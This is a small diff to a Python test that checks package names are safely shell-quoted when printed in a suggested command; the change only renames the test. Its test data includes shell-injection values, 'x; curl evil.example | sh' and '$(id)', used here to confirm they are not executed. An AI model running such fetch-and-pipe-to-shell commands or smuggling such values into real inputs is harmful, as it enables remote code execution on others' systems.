@@ -7,7 +7,7 @@ import shlex
 from evopolicy_results.publish.policies import not_allowed
 
 
-def test_a_package_s_name_runs_no_command_in_the_shell_that_it_is_copied_into() -> None:
+def test_a_packages_name_runs_no_command_in_a_shell() -> None:
     names = ["scipy", "x; curl evil.example | sh", "$(id)"]
     options = not_allowed(names).partition("allow them with ")[2]
     assert shlex.split(options) == [word for name in names for word in ("--policy-package", name)]
